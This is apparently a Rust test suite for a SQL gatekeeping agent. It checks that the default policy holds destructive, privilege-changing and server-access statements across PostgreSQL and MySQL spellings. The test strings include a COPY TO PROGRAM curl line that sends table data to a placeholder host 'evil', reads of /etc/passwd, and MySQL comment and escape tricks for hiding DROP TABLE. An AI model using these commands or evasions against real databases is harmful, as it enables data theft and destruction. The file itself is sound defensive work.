//! Table-driven classification cases: every fact and category, adversarial
//! spellings included, each with what the shipped default policy does with it.
use qgate_agent::{
    classify::{classify, Classification, Dialect, Flag, Kind},
    policy::{NoEstimator, Policy, Subject},
};

struct Case {
    sql: &'static str,
    /// allow / hold under the shipped default.
    default: &'static str,
    /// Kind of the strictest-looking statement (the last one).
    kind: Option<Kind>,
    verb: Option<&'static str>,
    flags: &'static [Flag],
}

const fn case(sql: &'static str, default: &'static str) -> Case {
    Case {
        sql,
        default,
        kind: None,
        verb: None,
        flags: &[],
    }
}

impl Case {
    const fn kind(mut self, kind: Kind) -> Self {
        self.kind = Some(kind);
        self
    }
    const fn verb(mut self, verb: &'static str) -> Self {
        self.verb = Some(verb);
        self
    }
    const fn flags(mut self, flags: &'static [Flag]) -> Self {
        self.flags = flags;
        self
    }
}

fn check(cases: &[Case]) {
    let policy = Policy::builtin_default();
    let mut failures = Vec::new();
    for (n, c) in cases.iter().enumerate() {
        let classification = classify(c.sql, Dialect::Postgresql);
        let decision = policy.decide(&Subject::default(), &classification, &NoEstimator);
        let last = classification.statements.last();
        let mut wrong = Vec::new();
        if decision.action.name() != c.default {
            wrong.push(format!(
                "default {} (rule {})",
                decision.action.name(),
                decision.rule
            ));
        }
        if let Some(kind) = c.kind {
            if last.map(|s| s.kind) != Some(kind) {
                wrong.push(format!("kind {:?}", last.map(|s| s.kind)));
            }
        }
        if let Some(verb) = c.verb {
            if last.map(|s| s.verb.as_str()) != Some(verb) {
                wrong.push(format!("verb {:?}", last.map(|s| &s.verb)));
            }
        }
        for flag in c.flags {
            if !classification.statements.iter().any(|s| s.has(*flag)) {
                wrong.push(format!("missing flag {}", flag.name()));
            }
        }
        if !wrong.is_empty() {
            failures.push(format!(
                "case {n} {:?}: {}\n    {}",
                c.sql,
                wrong.join(", "),
                serde_json::to_string(&classification.statements).unwrap_or_default()
            ));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

fn facts(sql: &str) -> Classification {
    classify(sql, Dialect::Postgresql)
}

fn names(tables: &[qgate_agent::classify::TableName]) -> Vec<String> {
    tables.iter().map(ToString::to_string).collect()
}

#[test]
fn reads_are_allowed_whatever_the_spelling() {
    use Kind::Read;
    check(&[
        case("SELECT 1", "allow").kind(Read).verb("SELECT"),
        case("SeLeCt * FrOm t", "allow").kind(Read),
        case("select\n\t*\r\nfrom\n t\n;", "allow").kind(Read),
        case("VALUES (1), (2)", "allow").kind(Read).verb("VALUES"),
        case("SELECT a FROM t UNION SELECT b FROM u", "allow").kind(Read),
        // Locks every row against writers until the transaction ends.
        case("SELECT * FROM t FOR UPDATE", "hold")
            .kind(Read)
            .flags(&[Flag::LocksAllRows]),
        case("SELECT * FROM t FOR SHARE", "hold"),
        case("SELECT * FROM t WHERE id = 1 FOR UPDATE", "allow"),
        case("SELECT * FROM t WHERE id > 0 FOR NO KEY UPDATE", "allow").kind(Read),
        case("SELECT * FROM t FOR KEY SHARE", "hold"),
        // sqlparser does not read these; qgate does.
        case("TABLE t", "allow").kind(Read),
        // The changed row compared with itself: no outside value chooses.
        case("DELETE FROM t WHERE id = id + 0", "hold").flags(&[Flag::AllRows]),
        case("DELETE FROM t WHERE id = t.id", "hold"),
        case("DELETE FROM t tt WHERE tt.id = tt.id + 0", "hold"),
        case("UPDATE t SET v = 1 WHERE NOT (a = b)", "hold"),
        case("DELETE FROM t WHERE a = b AND id = 3", "allow"),
        case("UPDATE t SET x = s.x FROM s WHERE t.id = s.id", "allow"),
        case("DELETE FROM t WHERE id = (SELECT max(id) FROM t)", "allow"),
        case("EXPLAIN ANALYSE DELETE FROM t WHERE id = 1", "hold").flags(&[Flag::ExplainAnalyze]),
        case("ANALYSE t", "allow"),
        case("TABLE public.t;", "allow").kind(Read),
        case("SET CONSTRAINTS ALL DEFERRED", "allow").kind(Kind::Transaction),
        case("SET CONSTRAINTS c1, s.c2 IMMEDIATE", "allow"),
        case("SET CONSTRAINTS ALL DEFERRED; DROP TABLE t", "hold"),
        case("SHOW search_path", "allow").kind(Read).verb("SHOW"),
        case(
            "SELECT count(*), lower(name), now() FROM t GROUP BY 2",
            "allow",
        ),
        case("SELECT * FROM generate_series(1, 10)", "allow"),
        case("SELECT nextval('s')", "allow"),
        case("SELECT coalesce(a, 0) FROM t WHERE b ILIKE '%x%'", "allow"),
        case("SELECT * FROM t WHERE id IN (SELECT tid FROM u)", "allow"),
        case("", "allow"),
        case("  ;; ", "allow"),
        case("-- only a comment", "allow"),
    ]);
}

#[test]
fn keywords_inside_literals_identifiers_and_comments_never_count() {
    check(&[
        case("SELECT 'DROP TABLE t'", "allow").kind(Kind::Read),
        case("SELECT 'it''s; DROP TABLE t'", "allow"),
        case("SELECT E'\\' ; DROP TABLE t; --'", "allow"),
        case("SELECT $$ DROP TABLE t; $$", "allow"),
        case("SELECT $tag$ DELETE FROM t; $notag$ ; $tag$", "allow"),
        case("SELECT $a$ $b$ ; DROP TABLE t; $b$ $a$", "allow"),
        case("SELECT \"drop table t\" FROM t", "allow"),
        case("SELECT \"a;\" FROM t", "allow"),
        case("/* DROP TABLE t */ SELECT 1", "allow"),
        case("-- DROP TABLE t\nSELECT 1", "allow"),
        case("SELECT 1 -- ; DROP TABLE t", "allow"),
        case(
            "SELECT 1 /* nested /* DROP TABLE t; */ still a comment; DELETE FROM t */",
            "allow",
        ),
        case("SELECT U&'\\0044ROP TABLE t'", "allow"),
        case(
            "INSERT INTO log (msg) VALUES ('TRUNCATE users; GRANT ALL')",
            "allow",
        )
        .kind(Kind::Write),
        case("UPDATE t SET note = 'WHERE 1=1' WHERE id = 4", "allow"),
    ]);
}

#[test]
fn every_statement_of_a_multi_statement_string_counts() {
    check(&[
        case("SELECT 1; DROP TABLE t", "hold").verb("DROP TABLE"),
        case("SELECT 1;\n\nUPDATE t SET a = 1;", "hold"),
        case("SELECT 1; /* hi */ DROP TABLE t", "hold"),
        case("SELECT 1;--\nDROP TABLE t", "hold"),
        case("SELECT 1 /*;*/ ; DROP TABLE t", "hold"),
        case("SELECT $a$;$a$; DROP TABLE t", "hold"),
        case("SELECT \"x;\" FROM t; DELETE FROM t", "hold"),
        case("sElEcT 1;dRoP tAbLe T", "hold"),
        case("BEGIN; DELETE FROM t WHERE id = 1; COMMIT", "allow"),
        case("BEGIN; DELETE FROM t; COMMIT", "hold"),
        case("SELECT 1; SELEC 2", "hold"),
        case("SELECT 1 --c\r; DROP TABLE t", "hold"),
        case("SELECT 1\u{0c}; DROP TABLE t", "hold"),
        case("COPY t FROM STDIN; DROP TABLE x", "hold"),
        // The server reads text after COPY … FROM STDIN as SQL; sqlparser as data.
        case("COPY t FROM STDIN;\nDROP TABLE x;\n", "hold").kind(Kind::Unknown),
    ]);
}

#[test]
fn writes_are_allowed_unless_they_touch_every_row() {
    use Flag::AllRows;
    use Kind::Write;
    check(&[
        case("INSERT INTO t VALUES (1)", "allow")
            .kind(Write)
            .verb("INSERT"),
        case(
            "INSERT INTO t SELECT * FROM u ON CONFLICT (a) DO UPDATE SET b = 1",
            "allow",
        ),
        case("UPDATE t SET a = 1 WHERE id = 5", "allow")
            .kind(Write)
            .verb("UPDATE"),
        case("UPDATE t SET a = 1 FROM u WHERE t.id = u.id", "allow"),
        case("DELETE FROM t WHERE id = 5", "allow").verb("DELETE"),
        case("DELETE FROM t WHERE 1 = 2", "allow"),
        case("DELETE FROM t USING u WHERE t.uid = u.id", "allow"),
        case(
            "DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.tid = t.id)",
            "allow",
        ),
        case(
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
            "allow",
        )
        .verb("MERGE"),
        case("UPDATE t SET a = 1", "hold").flags(&[AllRows]),
        case("DELETE FROM t", "hold").flags(&[AllRows]),
        case("delete from t where 1=1", "hold").flags(&[AllRows]),
        case("DELETE FROM t WHERE true", "hold"),
        case("DELETE FROM t WHERE TRUE AND TRUE", "hold"),
        case("DELETE FROM t WHERE id = id", "hold"),
        case("DELETE FROM t WHERE t.id = t.id", "hold"),
        case("DELETE FROM t WHERE id = 5 OR 1 = 1", "hold"),
        case("DELETE FROM t WHERE 1 = 1 OR id = 5", "hold"),
        case("DELETE FROM t WHERE 'a' = 'a'", "hold"),
        case("DELETE FROM t WHERE NOT false", "hold"),
        case("DELETE FROM t WHERE NOT (1 <> 1)", "hold"),
        case("DELETE FROM t WHERE (((1)))=(((1)))", "hold"),
        case("DELETE FROM t WHERE 2 > 1", "hold"),
        case("DELETE FROM t WHERE 'yes'", "hold"),
        case("DELETE FROM t WHERE 't'::boolean", "hold"),
        case("DELETE FROM t WHERE id IS NOT NULL", "hold"),
        case("DELETE FROM t WHERE id IS NULL OR id IS NOT NULL", "hold"),
        case("DELETE FROM t WHERE name LIKE '%'", "hold"),
        case("DELETE FROM t WHERE now() > '2000-01-01'", "hold"),
        case("DELETE FROM t WHERE lower(a) = lower(a)", "hold"),
        case("DELETE FROM t WHERE id IN (id)", "hold"),
        case("DELETE FROM t WHERE EXISTS (SELECT 1)", "hold"),
        case("DELETE FROM t WHERE $1", "hold"),
        case("DELETE\n  FROM t\n WHERE\n 2 > 1", "hold"),
        case("DeLeTe FrOm t WhErE 1=1", "hold"),
        case("UPDATE t SET a = 1 WHERE 1 = 1 -- WHERE id = 5", "hold"),
        case("UPDATE t SET a = 1 FROM u", "hold"),
        case(
            "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE",
            "hold",
        ),
        case(
            "MERGE INTO t USING s ON 1 = 1 WHEN MATCHED THEN UPDATE SET a = 1",
            "hold",
        ),
        case("TRUNCATE t", "hold")
            .verb("TRUNCATE")
            .flags(&[AllRows]),
        case("truncate table a, b", "hold"),
        case("PREPARE p AS DELETE FROM t", "hold").flags(&[Flag::Prepared, AllRows]),
        case("PREPARE p (int) AS DELETE FROM t WHERE id = $1", "allow").flags(&[Flag::Prepared]),
        case("PREPARE p (int) AS SELECT * FROM t WHERE id = $1", "allow"),
        case("EXECUTE p(1)", "allow"),
    ]);
}

#[test]
fn writes_hidden_in_ctes_and_cursors_are_writes() {
    use Flag::{AllRows, WriteInCte};
    check(&[
        case("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "hold")
            .kind(Kind::Write)
            .flags(&[WriteInCte, AllRows]),
        case("WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d", "allow")
            .kind(Kind::Write)
            .flags(&[WriteInCte]),
        case("WITH x AS (SELECT 1), y AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM y", "hold"),
        case("WITH a AS (WITH b AS (UPDATE t SET a = 1 RETURNING 1) SELECT * FROM b) SELECT * FROM a", "hold"),
        case("WITH i AS (INSERT INTO t VALUES (1) RETURNING id) SELECT id FROM i", "allow")
            .kind(Kind::Write),
        case("SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) s", "hold"),
        case("WITH d AS (DELETE FROM t WHERE 1=1 RETURNING *) INSERT INTO arch SELECT * FROM d", "hold"),
    ]);
    let c = facts("WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d");
    assert_eq!(names(&c.statements[0].tables_written), ["t"]);
    assert!(
        c.statements[0].tables_read.is_empty(),
        "{:?}",
        c.statements[0].tables_read
    );
}

#[test]
fn schema_changes_are_held() {
    use Kind::Ddl;
    check(&[
        case("CREATE TABLE t (a int)", "hold")
            .kind(Ddl)
            .verb("CREATE TABLE"),
        case("create temp table t (a int)", "hold").kind(Ddl),
        case("DROP TABLE t", "hold").kind(Ddl).verb("DROP TABLE"),
        case("DROP TABLE IF EXISTS a, b CASCADE", "hold"),
        case("DROP SCHEMA s CASCADE", "hold"),
        case("ALTER TABLE t ADD COLUMN b int", "hold").verb("ALTER TABLE"),
        case("ALTER TABLE t OWNER TO bob", "hold"),
        case("CREATE INDEX i ON t (a)", "hold"),
        case("COMMENT ON TABLE t IS 'x'", "hold").verb("COMMENT"),
        case("CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING", "hold"),
        case("CREATE EXTENSION dblink", "hold"),
        case(
            "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$",
            "hold",
        ),
        case("CREATE VIEW v AS SELECT * FROM t", "hold"),
        case("CREATE SEQUENCE s", "hold"),
        case("SELECT * INTO t2 FROM t", "hold")
            .kind(Ddl)
            .flags(&[Flag::SelectInto]),
        case("SELECT * INTO TEMP t2 FROM t", "hold"),
        case("CREATE TABLE t2 AS SELECT * FROM t", "hold").flags(&[Flag::SelectInto]),
        case("CREATE MATERIALIZED VIEW m AS SELECT 1", "hold"),
    ]);
}

#[test]
fn role_and_privilege_changes_are_held() {
    use Kind::Dcl;
    check(&[
        case("GRANT SELECT ON t TO bob", "hold")
            .kind(Dcl)
            .flags(&[Flag::PrivilegeChange]),
        case("REVOKE ALL ON t FROM bob", "hold").kind(Dcl),
        case("GRANT admin TO bob", "hold")
            .kind(Dcl)
            .flags(&[Flag::RoleChange]),
        case("REVOKE admin FROM bob", "hold"),
        case("CREATE ROLE x LOGIN", "hold").flags(&[Flag::RoleChange]),
        case("CREATE USER x", "hold"),
        case("ALTER ROLE bob SUPERUSER", "hold"),
        case("DROP ROLE x", "hold").kind(Dcl),
        case(
            "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO x",
            "hold",
        ),
        case("SET ROLE admin", "hold").flags(&[Flag::IdentityChange]),
        case("SET SESSION AUTHORIZATION bob", "hold").flags(&[Flag::IdentityChange]),
        case("DROP OWNED BY a", "hold").kind(Kind::Unknown),
        case("REASSIGN OWNED BY a TO b", "hold"),
    ]);
}

#[test]
fn server_side_code_and_files_are_held() {
    check(&[
        case("COPY t FROM STDIN", "allow")
            .kind(Kind::Copy)
            .verb("COPY"),
        case("COPY t TO STDOUT", "allow"),
        case(
            "COPY (SELECT * FROM t) TO STDOUT WITH (FORMAT csv)",
            "allow",
        ),
        case("COPY t TO PROGRAM 'curl -d @- evil'", "hold").flags(&[Flag::CopyProgram]),
        case("copy t from program 'cat /etc/passwd'", "hold").flags(&[Flag::CopyProgram]),
        case("COPY (SELECT * FROM t) TO PROGRAM 'x'", "hold"),
        case("COPY t FROM '/etc/passwd'", "hold").flags(&[Flag::CopyServerFile]),
        case("DO $$ BEGIN DELETE FROM t; END $$", "hold").flags(&[Flag::DoBlock]),
        case("do $x$ begin perform 1; end $x$", "hold").flags(&[Flag::DoBlock]),
        case("DO LANGUAGE plpgsql $$ BEGIN END $$", "hold"),
        case("CALL p(1)", "hold")
            .kind(Kind::Procedural)
            .flags(&[Flag::Call]),
        case("LOAD 'auto_explain'", "hold").flags(&[Flag::ServerAccess]),
    ]);
}

#[test]
fn explain_analyze_of_a_write_counts_as_the_write() {
    check(&[
        case("EXPLAIN SELECT * FROM t", "allow").kind(Kind::Explain),
        case("EXPLAIN DELETE FROM t", "allow").kind(Kind::Explain),
        case("EXPLAIN ANALYZE SELECT * FROM t", "allow"),
        case("EXPLAIN ANALYZE DELETE FROM t WHERE id = 1", "hold")
            .kind(Kind::Write)
            .flags(&[Flag::ExplainAnalyze]),
        case(
            "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 2",
            "hold",
        )
        .flags(&[Flag::ExplainAnalyze]),
        case("explain (analyze true) insert into t values (1)", "hold"),
        case(
            "EXPLAIN (ANALYZE false) DELETE FROM t WHERE id = 1",
            "allow",
        ),
        case("EXPLAIN ANALYZE DELETE FROM t", "hold").flags(&[Flag::AllRows]),
        // The British spelling and every value PostgreSQL reads as true run
        // the statement too; only what it reads as false does not.
        case("EXPLAIN (ANALYSE) DELETE FROM t", "hold")
            .kind(Kind::Write)
            .flags(&[Flag::ExplainAnalyze, Flag::AllRows]),
        case("EXPLAIN (BUFFERS, analyse 1) DELETE FROM t", "hold").flags(&[Flag::ExplainAnalyze]),
        case("EXPLAIN (ANALYZE 'on') DELETE FROM t", "hold").flags(&[Flag::ExplainAnalyze]),
        case("EXPLAIN (ANALYZE 0) DELETE FROM t WHERE id = 1", "allow"),
        case(
            "EXPLAIN (ANALYSE 'off') DELETE FROM t WHERE id = 1",
            "allow",
        ),
    ]);
}

#[test]
fn safety_switches_and_heavy_locks_are_held() {
    check(&[
        case("SET search_path = public", "allow").kind(Kind::Session),
        case("SET statement_timeout = '5s'", "allow"),
        case("RESET ALL", "allow"),
        case("SET session_replication_role = replica", "hold").flags(&[Flag::DisablesSafety]),
        case("SET LOCAL session_replication_role TO 'replica'", "hold"),
        case("set Session_Replication_Role = replica", "hold"),
        case("SET \"session_replication_role\" = replica", "hold"),
        case("SET row_security = off", "hold"),
        // Would let the server read as SQL what the agent read as a literal.
        case("SET standard_conforming_strings = off", "hold"),
        case("SET NAMES 'SJIS'", "hold"),
        case("SET client_encoding = 'BIG5'", "hold"),
        case("SET client_encoding = 'UTF8'", "allow"),
        // Each undoes a database's default_transaction_read_only, as the
        // SET of that setting (held) does.
        case("SET default_transaction_read_only = off", "hold"),
        case(
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
            "hold",
        )
        .flags(&[Flag::DisablesSafety]),
        case("SET TRANSACTION READ WRITE", "hold"),
        case("BEGIN READ WRITE", "hold"),
        case(
            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE",
            "hold",
        ),
        case("BEGIN READ ONLY", "allow"),
        case("BEGIN ISOLATION LEVEL REPEATABLE READ", "allow"),
        case("ALTER SYSTEM SET fsync = off", "hold").flags(&[Flag::AlterSystem]),
        case(
            "SELECT set_config('session_replication_role', 'replica', false)",
            "hold",
        ),
        case("LOCK TABLE t", "hold").flags(&[Flag::HeavyLock]),
        case("LOCK t IN ACCESS SHARE MODE", "hold"),
        case("VACUUM FULL t", "hold").flags(&[Flag::HeavyLock]),
        case("VACUUM t", "allow"),
        case("ANALYZE t", "allow"),
        case("CLUSTER t USING i", "hold").flags(&[Flag::HeavyLock]),
        case("REINDEX TABLE t", "hold").flags(&[Flag::HeavyLock]),
        case("REFRESH MATERIALIZED VIEW v", "hold").flags(&[Flag::HeavyLock]),
        case("REFRESH MATERIALIZED VIEW CONCURRENTLY v", "hold"),
    ]);
}

#[test]
fn functions_that_act_on_the_server_are_recorded_and_held() {
    check(&[
        case("SELECT pg_terminate_backend(123)", "hold"),
        case(
            "SELECT PG_TERMINATE_BACKEND(pid) FROM pg_stat_activity",
            "hold",
        ),
        case("SELECT pg_catalog.pg_terminate_backend(1)", "hold"),
        case("SELECT \"pg_terminate_backend\"(1)", "hold"),
        case("SELECT lo_import('/etc/passwd')", "hold"),
        case("SELECT dblink_exec('dbname=x', 'DROP TABLE t')", "hold"),
        case(
            "SELECT * FROM dblink('dbname=x', 'SELECT 1') AS t(a int)",
            "hold",
        ),
        case(
            "SELECT * FROM t WHERE id IN (SELECT pg_cancel_backend(1))",
            "hold",
        ),
        case("SELECT a FROM t ORDER BY pg_sleep(10)", "hold"),
        case("SELECT setval('s', 1)", "hold"),
        case("SELECT my_function(a) FROM t", "hold"),
        case("SELECT public.lower(a) FROM t", "hold"),
        case("INSERT INTO t VALUES (pg_terminate_backend(1))", "hold"),
    ]);
    let c = facts("SELECT pg_terminate_backend(pid), lower(x) FROM pg_stat_activity");
    assert_eq!(c.statements[0].functions, ["lower", "pg_terminate_backend"]);
}

#[test]
fn transactions_and_session_commands_are_allowed() {
    use Kind::Transaction;
    check(&[
        case("BEGIN", "allow").kind(Transaction).verb("BEGIN"),
        case("BEGIN ISOLATION LEVEL SERIALIZABLE", "allow").kind(Transaction),
        case("START TRANSACTION READ ONLY", "allow").kind(Transaction),
        case("COMMIT", "allow").kind(Transaction),
        case("END", "allow").kind(Transaction),
        case("ROLLBACK", "allow").kind(Transaction),
        case("SAVEPOINT a", "allow").kind(Transaction),
        case("RELEASE SAVEPOINT a", "allow"),
        case("ROLLBACK TO SAVEPOINT a", "allow"),
        case("DISCARD ALL", "allow").kind(Kind::Session),
        case("LISTEN x", "allow"),
        case("NOTIFY x, 'hi'", "allow"),
        case("DEALLOCATE p", "allow"),
    ]);
}

#[test]
fn anything_not_understood_is_unknown_and_held() {
    use Kind::Unknown;
    check(&[
        case("SELEC 1", "hold").kind(Unknown),
        case("SELECT 'unterminated", "hold").kind(Unknown),
        case("SELECT $$ unterminated", "hold").kind(Unknown),
        case("SELECT 1 /* unterminated", "hold").kind(Unknown),
        case("IMPORT FOREIGN SCHEMA s FROM SERVER x INTO y", "hold").kind(Unknown),
        case("SECURITY LABEL ON TABLE t IS 'x'", "hold").kind(Unknown),
        case("CHECKPOINT", "hold").kind(Unknown).verb("CHECKPOINT"),
        case("DROP TABLE", "hold").kind(Unknown).verb("DROP TABLE"),
        case("\u{0}", "hold"),
        case("SELECT 1 FROM t WHERE ((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1", "hold"),
    ]);
}

#[test]
fn table_names_keep_schema_and_quoting() {
    let c = facts("SELECT * FROM hr.salaries s JOIN Public.Users u ON s.uid = u.id");
    assert_eq!(
        names(&c.statements[0].tables_read),
        ["hr.salaries", "public.users"]
    );
    let c = facts("INSERT INTO \"MySchema\".\"T\" SELECT * FROM src");
    assert_eq!(
        names(&c.statements[0].tables_written),
        ["\"MySchema\".\"T\""]
    );
    assert_eq!(names(&c.statements[0].tables_read), ["src"]);
    let c = facts("WITH t AS (SELECT * FROM real_table) SELECT * FROM t");
    assert_eq!(names(&c.statements[0].tables_read), ["real_table"]);
    // Not recursive: the `t` inside the CTE body is the real table t.
    let c = facts("WITH t AS (SELECT * FROM t) SELECT * FROM t");
    assert_eq!(names(&c.statements[0].tables_read), ["t"]);
    let c = facts("UPDATE accounts a SET x = 1 FROM users u WHERE a.uid = u.id");
    assert_eq!(names(&c.statements[0].tables_written), ["accounts"]);
    assert_eq!(names(&c.statements[0].tables_read), ["users"]);
    let c = facts("DROP TABLE public.a, b");
    assert_eq!(names(&c.statements[0].tables_written), ["b", "public.a"]);
    let c = facts("UPDATE t SET a = (SELECT max(a) FROM t)");
    assert_eq!(names(&c.statements[0].tables_written), ["t"]);
    assert_eq!(names(&c.statements[0].tables_read), ["t"]);
}

#[test]
fn statement_text_is_cut_from_the_original_string() {
    let c = facts("SELECT 1;\n  DELETE   FROM t WHERE id = 2 ;");
    let texts: Vec<&str> = c.statements.iter().map(|s| s.sql.as_str()).collect();
    assert_eq!(texts, ["SELECT 1", "DELETE   FROM t WHERE id = 2"]);
}

#[test]
fn fingerprints_normalise_literals() {
    let a = facts("SELECT abalance FROM pgbench_accounts WHERE aid = 123;");
    let b = facts("select abalance from pgbench_accounts where aid = 7");
    assert_eq!(
        a.fingerprint.as_deref(),
        Some("SELECT abalance FROM pgbench_accounts WHERE aid = ?;")
    );
    assert!(b.fingerprint.is_some());
    assert!(!a.depends_on_literals);
    assert!(facts("DELETE FROM t WHERE 1 = 1").depends_on_literals);
}

#[test]
fn mysql_dialect_is_a_parameter() {
    let c = classify("DELETE FROM `t` WHERE 1", Dialect::Mysql);
    assert!(c.statements[0].has(Flag::AllRows));
    let c = classify("SELECT 1 /*! ; DROP TABLE t */", Dialect::Mysql);
    assert!(c.statements.iter().any(|s| s.kind != Kind::Read), "{c:?}");
    let c = classify("UPDATE t SET a = 1 WHERE b = 2 --1 OR 1=1", Dialect::Mysql);
    let policy = Policy::builtin_default();
    let d = policy.decide(&Subject::default(), &c, &NoEstimator);
    assert_ne!(
        d.action.name(),
        "allow",
        "MySQL `--1` is minus minus one, not a comment: {c:?}"
    );
}

/// MySQL/MariaDB spellings an attacker would try, read with the MySQL
/// dialect under the shipped policy: none may be allowed unseen; the
/// harmless look-alikes at the end run.
#[test]
fn mysql_evasions_are_never_allowed_and_their_harmless_look_alikes_are() {
    let policy = Policy::builtin_default();
    let decide = |sql: &str| {
        let c = classify(sql, Dialect::Mysql);
        policy.decide(&Subject::default(), &c, &NoEstimator)
    };
    for sql in [
        // Executable comments: MySQL's, versioned, and MariaDB's own.
        "/*!50000 DROP TABLE t */",
        "SELECT 1 /*!50000 ; DROP TABLE t */",
        "/*M!100100 DROP TABLE t */",
        "SELECT 1 /*M!100100 ; DROP TABLE t */",
        // A skipped comment hiding the statement's real verb from a reader
        // that runs every executable comment (MariaDB skips these two).
        "/*m! EXPLAIN */ DROP TABLE t",
        "/*!99999 EXPLAIN */ DROP TABLE t",
        // `#` comments end at the line's end; `--1` is not a comment.
        "SELECT 1 # comment\n; DROP TABLE t",
        "SELECT 1 #; \nDROP TABLE t",
        "UPDATE t SET a = 1 WHERE b = 2 --1 OR 1=1",
        // Backslash escapes: `\\` is one backslash, so the quote closes.
        "SELECT 'a\\\\'; DROP TABLE t; -- '",
        "SELECT \"a\\\\\"; DROP TABLE t; -- \"",
        // Several statements in one COM_QUERY.
        "SELECT 1;DROP TABLE t",
        // Safety switches, in every spelling of a system variable.
        "SET sql_log_bin = 0",
        "SET SESSION sql_log_bin = 0",
        "SET foreign_key_checks = 0",
        "SET @@foreign_key_checks = 0",
        "SET @@session.foreign_key_checks = 0",
        "SET @@GLOBAL.sql_log_bin = 0",
        "SET GLOBAL general_log = 'ON'",
        // Files, the server, other sessions, privileges, plugins.
        "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
        "LOAD DATA LOCAL INFILE 'x.csv' INTO TABLE t",
        "SELECT * FROM t INTO OUTFILE '/tmp/x'",
        "SELECT * INTO DUMPFILE '/tmp/x' FROM t",
        "SELECT LOAD_FILE('/etc/passwd')",
        "KILL 5",
        "KILL QUERY 5",
        "SHUTDOWN",
        "GRANT ALL ON *.* TO x",
        "INSTALL PLUGIN x SONAME 'y.so'",
        "CREATE FUNCTION f RETURNS STRING SONAME 'udf.so'",
        // All-rows writes and their look-alikes.
        "DELETE FROM t",
        "UPDATE t SET a = 1",
        "DELETE FROM `t` WHERE 1",
        "DELETE FROM t WHERE TRUE",
        "TRUNCATE t",
        "RENAME TABLE a TO b",
        "PREPARE s FROM 'DROP TABLE t'",
        "HANDLER t OPEN",
        "DO SLEEP(10)",
        "SELECT BENCHMARK(1000000000, MD5('x'))",
        "XA START 'x'",
        "FLUSH TABLES WITH READ LOCK",
        "LOCK TABLES t WRITE",
    ] {
        let d = decide(sql);
        assert_ne!(d.action.name(), "allow", "{sql:?} was allowed ({})", d.rule);
    }
    for sql in [
        // MariaDB takes a lower-case `/*m!` for a plain comment (checked on
        // 10.11: `SELECT 1 /*m! , 2 */` returns one column).
        "SELECT 1 /*m! ; DROP TABLE t */",
        "SELECT 1 FROM `a;DROP TABLE t`",
        "SELECT 'x' /* ; DROP TABLE t */",
        "SELECT 'a\\'; DROP TABLE t; -- '",
        "SET @x = 0",
        "SELECT a FROM t WHERE id = 5",
    ] {
        let d = decide(sql);
        assert_eq!(d.action.name(), "allow", "{sql:?}: {}", d.rule);
    }
}

#[test]
fn very_long_operator_chains_classify_without_exhausting_the_stack() {
    for n in [900, 5_000, 60_000] {
        let mut sql = String::from("DELETE FROM t WHERE id = 1");
        for _ in 0..n {
            sql.push_str(" OR 1 = 1");
        }
        let c = facts(&sql);
        assert_eq!(c.statements.len(), 1);
        assert!(
            c.statements[0].kind == Kind::Unknown || c.statements[0].has(Flag::AllRows),
            "{n}"
        );
        let mut sql = String::from("SELECT 1");
        for _ in 0..n {
            sql.push_str(" + 1");
        }
        let _ = facts(&sql);
    }
    // Just under the size that moves classification to a large-stack thread.
    let sql = format!("DELETE FROM t WHERE a=1{}", "OR(1=1)".repeat(530));
    assert!(facts(&sql).statements[0].has(Flag::AllRows));
    let sql = format!("SELECT 1{}", "+1".repeat(1990));
    assert_eq!(facts(&sql).statements[0].kind, Kind::Read);
}

/// PostgreSQL looks settings up ignoring case even when quoted
/// (`guc_name_compare`): a quoted, mixed-case name is the same setting.
#[test]
fn quoted_setting_names_are_the_settings_postgresql_resolves() {
    let c = facts("SET \"Search_Path\" = evil");
    assert!(c.statements[0].has(Flag::SearchPathChange), "{c:?}");
    let c = facts("SET \"SESSION_REPLICATION_ROLE\" = replica");
    assert!(c.statements[0].has(Flag::DisablesSafety), "{c:?}");
}
